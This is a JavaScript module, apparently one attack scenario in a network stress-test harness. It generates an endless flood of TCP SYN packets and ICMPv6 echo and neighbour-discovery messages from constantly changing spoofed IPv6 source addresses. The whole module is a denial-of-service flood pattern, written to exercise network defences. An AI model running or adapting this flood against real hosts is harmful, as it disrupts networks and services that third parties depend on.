import { address6, icmp6, packet6, tcp6 } from '../ipv6.js'
import { SYN } from '../peers.js'

export const summary =
  'SYNs, echo requests and neighbour discovery from ever new addresses of IPv6, of which there is no end'
export const short = true
export const ipv6 = true

const TCP = 6
/** Echo request, and solicitations and advertisements of routers and neighbours. */
const TYPES = [128, 128, 133, 134, 135, 136, 137]

export const attack = async (peers, { goesOn }) => {
  const options = Uint8Array.of(2, 4, 5, 0xa0)
  const body = new Uint8Array(64)
  for (let number = 0; await goesOn(); )
    for (let n = 0; n < 100; n++, number++) {
      const source = address6(number)
      if (n % 4 === 3) peers.raw(icmp6(source, TYPES[number % TYPES.length], 0, number, body))
      else {
        const fields = { sourcePort: 1024 + (number % 60_000), port: 80, flags: SYN, options }
        peers.raw(packet6(source, TCP, tcp6(source, { ...fields, seq: peers.random.uint32() | 0 })))
      }
    }
}
